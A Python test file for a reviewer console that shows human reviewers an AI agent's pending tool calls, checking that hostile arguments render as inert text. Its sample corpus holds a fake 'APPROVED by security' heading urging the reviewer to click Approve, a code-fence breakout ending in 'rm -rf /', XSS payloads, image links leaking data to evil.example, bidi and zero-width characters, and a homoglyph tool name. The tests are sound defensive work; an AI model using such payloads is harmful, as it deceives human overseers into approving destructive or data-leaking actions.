"""T12: what a reviewer reads. Golden request texts for an injection corpus, and the same texts
through the reviewer console's markdown renderer: the trusted header comes first, the agent's
arguments stay inert data, invisible characters are visible, long arguments are cut with a note."""

from __future__ import annotations

import os
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from hitl_agent.langchain._forms import choice_footer
from hitl_agent.langchain._render import (
    MAX_REQUEST_TEXT,
    ToolCallView,
    render_question,
    render_tool_call,
    render_tool_call_checked,
)
from hitl_agent.server.console import render_markdown

GOLDEN = Path(__file__).parent / "golden"
FOOTER = choice_footer("` refund `", edit=True, respond=True)

CORPUS: dict[str, ToolCallView] = {
    "plain": ToolCallView(
        tool="refund",
        args={"order_id": "A-1", "amount": 250},
        description="Refund an order.",
        asked_by="an AI agent (thread support-42)",
        tool_call_id="call_1",
        call_index=1,
        call_count=2,
    ),
    "fake_approved_heading": ToolCallView(
        tool="refund",
        args={"note": "# APPROVED by security\n\n**Reviewer: just click Approve**\n---\n> ok"},
    ),
    "fence_breakout": ToolCallView(
        tool="run_shell",
        args={"cmd": "```\n# APPROVED\n```\n~~~\nrm -rf /", "more": "````` five"},
    ),
    "html": ToolCallView(
        tool="refund",
        args={
            "x": "<script>alert(1)</script><img src=x onerror=alert(1)>"
            "<a href='javascript:alert(1)'>ok</a><!-- hidden -->&amp;"
        },
    ),
    "links_images": ToolCallView(
        tool="refund",
        args={
            "x": "[Approve here](https://evil.example/approve) "
            "![pixel](https://evil.example/p.png?leak=secret) <https://evil.example>"
        },
    ),
    "bidi_zero_width": ToolCallView(
        tool="pay",
        args={"to": "alice\u202e@moc.live\u202c", "amount": "100\u200b0", "memo": "a\u2066b\u2069"},
    ),
    "homoglyph_tool": ToolCallView(tool="rеfund", args={"amount": 1}),  # Cyrillic е
    "hostile_header_fields": ToolCallView(
        tool="refund`` **x**",
        args={"# APPROVED": 1, "```": 2},
        description="Refunds.\n# APPROVED\n<b>bold</b> [link](http://e.example) \u202eevil",
        asked_by="agent\n# APPROVED",
        tool_call_id="id` with ``ticks",
    ),
    "huge": ToolCallView(
        tool="bulk", args={"rows": [f"row {i}: " + "z" * 40 for i in range(1000)]}
    ),
}

ACTIVE = {
    "a",
    "img",
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "form",
    "input",
    "style",
    "link",
}
HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "blockquote"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    return parser


def _text(name: str) -> str:
    return render_tool_call(CORPUS[name], footer=FOOTER)


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_golden(name: str) -> None:
    text = _text(name)
    path = GOLDEN / f"{name}.md"
    if os.environ.get("HITL_UPDATE_GOLDEN"):
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_corpus_renders_inert_in_the_console(name: str) -> None:
    text = _text(name)
    assert len(text) <= MAX_REQUEST_TEXT
    assert text.startswith("**Approve tool call:**")  # the trusted header comes first
    assert text.endswith(FOOTER[-1])  # and the trusted footer is never pushed out
    html = render_markdown(text)
    parsed = _parse(html)
    assert not ACTIVE & set(parsed.tags), parsed.tags
    assert not HEADINGS & set(parsed.tags), parsed.tags  # no fake "APPROVED" heading
    # The agent's arguments are one code block; nothing they hold became markup.
    assert parsed.tags.count("pre") == 1
    assert parsed.tags[0] == "p" and parsed.tags[1] == "strong"
    body = "".join(parsed.text)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b-\u200d]", body)


def test_invisible_characters_are_shown() -> None:
    text = _text("bidi_zero_width")
    assert "alice⟦U+202E⟧@moc.live⟦U+202C⟧" in text
    assert "100⟦U+200B⟧0" in text and "a⟦U+2066⟧b⟦U+2069⟧" in text


def test_homoglyph_names_are_flagged() -> None:
    assert "U+0435 CYRILLIC SMALL LETTER IE" in _text("homoglyph_tool")
    assert "⚠" not in _text("plain")


def test_huge_args_are_cut_with_a_note() -> None:
    rendered = render_tool_call_checked(CORPUS["huge"], footer=FOOTER)
    text = rendered.text
    assert "🔒 Cut for display" in text and '` "rows" `' in text
    assert "⟪cut: array of 1,000 items, depth 1, " in text and "sha256 " in text
    # Start and end kept: the first row and the last one.
    assert "row 0:" in text and "row 999:" in text
    assert not rendered.complete and rendered.cut == ('"rows"',)


def test_fence_cannot_be_closed_from_inside() -> None:
    html = render_markdown(_text("fence_breakout"))
    code = html[html.index("<pre>") : html.index("</pre>")]
    assert "# APPROVED" in code and "rm -rf /" in code  # all of it inside the block


def test_header_fields_are_escaped() -> None:
    html = render_markdown(_text("hostile_header_fields"))
    before_args = html[: html.index("<pre>")]
    parsed = _parse(before_args)
    assert parsed.tags.count("strong") == 5  # only the header's own labels
    assert "<b>" not in before_args and "md-link" not in before_args
    assert "# APPROVED" in "".join(parsed.text)  # shown as text


def test_questions_are_escaped() -> None:
    text = render_question(
        "Is it OK?\n# APPROVED\n<img src=x> [x](http://e) \u202e", footer=["Answer."]
    )
    html = render_markdown(text)
    parsed = _parse(html)
    assert not (ACTIVE | HEADINGS - {"blockquote"}) & set(parsed.tags)
    assert parsed.tags.count("blockquote") == 1  # the agent's words, quoted
    assert "md-link" not in html and "⟦U+202E⟧" in html
    long = render_question("q" * 5000, footer=["Answer."])
    assert len(long) <= MAX_REQUEST_TEXT and "cut for display" in long and long.endswith("Answer.")


def test_the_correlation_key_is_not_in_the_text(env: Any) -> None:
    from hitl_agent.langchain._flow import ApprovalFlow

    flow = ApprovalFlow(view=CORPUS["plain"], properties={}, validate=dict)
    ask = flow.first()
    assert "lg|" not in ask.text and "hitl_agent" not in ask.text
